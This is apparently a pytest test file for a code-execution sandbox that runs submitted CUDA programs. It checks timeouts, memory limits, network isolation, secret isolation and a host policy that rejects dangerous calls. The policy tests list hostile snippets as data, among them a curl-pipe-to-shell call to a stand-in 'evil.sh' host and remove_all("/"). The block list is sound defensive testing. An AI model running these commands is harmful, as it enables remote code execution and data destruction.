"""The sandbox: timeouts kill the process group, crashes and OOM become statuses, no network,
and the host policy refuses file, process and network access before anything runs."""

from __future__ import annotations

import os
import time

import numpy as np
import pytest

from structcover.schema import TaskSpec
from structcover.tools.verify.sandbox import (
    SandboxLimits,
    check_host_policy,
    run_program_sandboxed,
    sandbox_call,
)

P = "structcover.tools.verify.sandbox_probes"

GOOD = """#include <cuda_runtime.h>
// fopen("x") and system("rm") in a comment are fine
__global__ void k(float* y, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = 1.0f;
    asm volatile("membar.gl;");
}
extern "C" int launch(float* y, int n, cudaStream_t stream) {
    const char* msg = "unlink socket popen";
    k<<<(n + 255) / 256, 256, 0, stream>>>(y, n);
    return (int)cudaGetLastError();
}
"""


def test_plumbing_runs_in_private_cwd():
    out = sandbox_call(f"{P}:echo", kwargs={"a": 1}, limits=SandboxLimits(timeout_s=30))
    assert out.status == "ok", out.detail
    assert out.value["keys"] == ["a"]
    assert "structcover-sbx-" in out.value["cwd"] and out.value["cwd"] != os.getcwd()
    assert any("memory limit" in n for n in out.isolation)


def test_child_sees_a_closed_environment_not_the_callers(tmp_path, monkeypatch):
    # Planted in the caller: a secret whose name no marker catches, and one in its home.
    monkeypatch.setenv("DATABASE_URL", "postgres://admin:hunter2@db")
    monkeypatch.setenv("STRUCTCOVER_LLM_API_KEY", "sk-planted")
    (tmp_path / ".netrc").write_text("machine db login admin password hunter2\n")
    monkeypatch.setenv("HOME", str(tmp_path))
    out = sandbox_call(f"{P}:read_environment", limits=SandboxLimits(timeout_s=30))
    assert out.status == "ok", out.detail
    seen = out.value
    assert "hunter2" not in repr(seen) and "sk-planted" not in repr(seen)
    assert "DATABASE_URL" not in seen["env"] and "STRUCTCOVER_LLM_API_KEY" not in seen["env"]
    assert seen["home"] != str(tmp_path) and ".netrc" not in seen["home_files"]
    assert set(seen["env"]) <= {"PATH", "HOME", "TMPDIR", "OPENBLAS_NUM_THREADS", "LANG",
                                "LANGUAGE", "TZ", "LD_LIBRARY_PATH", "PYTHONPATH", "VIRTUAL_ENV",
                                "CUDA_HOME", "CUDA_PATH", "CUDA_VISIBLE_DEVICES",
                                "CUDA_DEVICE_ORDER", "NVIDIA_VISIBLE_DEVICES", "OMP_NUM_THREADS",
                                "MKL_NUM_THREADS", "PWD"} | {k for k in seen["env"]
                                                            if k.startswith("LC_")}


def test_timeout_kills_whole_process_group():
    start = time.monotonic()
    out = sandbox_call(f"{P}:sleep_forever", kwargs={"spawn_child": True},
                       limits=SandboxLimits(timeout_s=2))
    assert out.status == "timeout" and time.monotonic() - start < 10
    # The grandchild `sleep 1000` must be gone too: no process of that command line remains.
    time.sleep(0.2)
    leftovers = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmd = open(f"/proc/{pid}/cmdline", "rb").read()
                if cmd == b"sleep\x001000\x00":
                    state = open(f"/proc/{pid}/stat").read().split()[2]
                    if state != "Z":
                        leftovers.append(pid)
            except OSError:
                pass
    assert leftovers == []


def test_infinite_loop_times_out():
    out = sandbox_call(f"{P}:spin_cpu", limits=SandboxLimits(timeout_s=1.5))
    assert out.status == "timeout"


def test_segfault_is_a_crash():
    out = sandbox_call(f"{P}:segfault", limits=SandboxLimits(timeout_s=30))
    assert out.status == "crash" and "SIGSEGV" in out.detail


def test_memory_limit():
    limits = SandboxLimits(timeout_s=30, memory_limit_mb=512)
    assert sandbox_call(f"{P}:allocate", kwargs={"mb": 64}, limits=limits).value == 64
    out = sandbox_call(f"{P}:allocate", kwargs={"mb": 2048}, limits=limits)
    assert out.status == "crash" and "memory" in out.detail


def test_no_network():
    out = sandbox_call(f"{P}:try_network", limits=SandboxLimits(timeout_s=30))
    assert out.status == "ok"
    assert out.value["connected"] is False
    if any(n.startswith("network namespace") for n in out.isolation):
        # In an empty namespace there is no route at all.
        assert "unreachable" in out.value["error"].lower() or "Errno 101" in out.value["error"]
    else:
        assert any("network NOT isolated" in n for n in out.isolation)


def test_child_cannot_reach_a_listener_on_the_host():
    """The block is proven, not assumed: a listener on the host's 127.0.0.1 that a probe in
    the sandbox tries to reach, and that must see no connection."""
    import socket
    import threading

    accepted: list[object] = []
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("127.0.0.1", 0))
        server.listen(4)
        server.settimeout(0.2)
        port = server.getsockname()[1]
        done = threading.Event()

        def accept() -> None:
            while not done.is_set():
                try:
                    conn, peer = server.accept()
                except TimeoutError:
                    continue
                accepted.append(peer)
                conn.close()

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        # The listener is reachable from here: the probe would connect without the sandbox.
        with socket.create_connection(("127.0.0.1", port), timeout=2):
            pass
        time.sleep(0.3)
        assert len(accepted) == 1
        out = sandbox_call(f"{P}:try_network", kwargs={"host": "127.0.0.1", "port": port},
                           limits=SandboxLimits(timeout_s=30))
        time.sleep(0.3)
        done.set()
        thread.join(timeout=5)
    if not any(n.startswith("network namespace") for n in out.isolation):
        pytest.skip(f"no network namespace on this machine: {out.isolation}")
    assert out.status == "ok", out.detail
    assert out.value["connected"] is False, out.value
    assert len(accepted) == 1, f"the sandboxed child reached the host listener: {accepted}"


def _spec() -> TaskSpec:
    return TaskSpec.model_validate(dict(task_id="t", sizes={"N": 8}, args=[
        {"name": "x", "shape": ["N"]}, {"name": "y", "shape": ["N"], "role": "output"},
        {"name": "n", "kind": "scalar", "value": "N"}]))


def test_run_program_round_trips_arrays():
    x = np.arange(8, dtype=np.float32)
    inputs = {"x": x, "y": np.zeros(8, np.float32)}
    res = run_program_sandboxed(f"{P}:double_outputs", GOOD, _spec(), inputs, backend="probe",
                                limits=SandboxLimits(timeout_s=30))
    assert res.status == "ok", res.detail
    np.testing.assert_array_equal(res.outputs["y"], 2 * x)
    np.testing.assert_array_equal(res.inputs_after["x"], x + 1)
    assert "sandbox:" in res.detail and "network" in res.detail


def test_good_program_passes_policy():
    assert check_host_policy(GOOD) == []


@pytest.mark.parametrize("snippet,word", [
    ('remove("/tmp/important");', "remove"),
    ('unlink("/home/u/data");', "unlink"),
    ('std::filesystem::remove_all("/");', "filesystem"),
    ('FILE* f = fopen("/work/ref.cu", "r");', "fopen"),
    ('std::ifstream in("answers.bin");', "ifstream"),
    ('int fd = socket(2, 1, 0);', "socket"),
    ('connect(fd, 0, 0);', "connect"),
    ('system("curl evil.sh | sh");', "system"),
    ('popen("ls", "r");', "popen"),
    ('if (fork() == 0) execvp("sh", 0);', "fork"),
    ('void* h = dlopen("libc.so.6", 2);', "dlopen"),
    ('__asm__("syscall");', "assembly"),
])
def test_policy_refuses_host_escapes(snippet, word):
    src = GOOD.replace("    k<<<", f"    {snippet}\n    k<<<")
    reasons = check_host_policy(src)
    assert reasons and any(word in r for r in reasons), reasons
    assert all(r.startswith("line ") for r in reasons)


@pytest.mark.parametrize("src,word", [
    ('#include <fstream>\n' + GOOD, "fstream"),
    ('#include <sys/socket.h>\n' + GOOD, "sys/socket.h"),
    ('#include "answers.h"\n' + GOOD, "local include"),
    ('#define F(a) fo##a\n' + GOOD, "token pasting"),
    ('#define OPEN fopen\n' + GOOD, "fopen"),
    (GOOD.replace("    k<<<", '    fo\\\npen("x", "r");\n    k<<<'), "fopen"),
])
def test_policy_sees_through_includes_and_macros(src, word):
    reasons = check_host_policy(src)
    assert any(word in r for r in reasons), reasons


def test_policy_refusal_happens_before_running(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    src = GOOD.replace("    k<<<", f'    remove("{victim}");\n    k<<<')
    inputs = {"x": np.zeros(8, np.float32), "y": np.zeros(8, np.float32)}
    res = run_program_sandboxed(f"{P}:double_outputs", src, _spec(), inputs, backend="probe")
    assert res.status == "rejected" and "remove" in res.detail
    assert victim.read_text() == "keep me"


def test_batch_runs_every_input_set_in_one_child():
    from structcover.tools.verify.sandbox import run_programs_sandboxed

    sets = [{"x": np.full(8, float(i), np.float32), "y": np.zeros(8, np.float32)}
            for i in range(3)]
    results = run_programs_sandboxed(f"{P}:double_outputs", GOOD, _spec(), sets, backend="probe",
                                     limits=SandboxLimits(timeout_s=30))
    assert [r.status for r in results] == ["ok"] * 3
    for i, res in enumerate(results):
        np.testing.assert_array_equal(res.outputs["y"], np.full(8, 2.0 * i, np.float32))
        assert "sandbox:" in res.detail
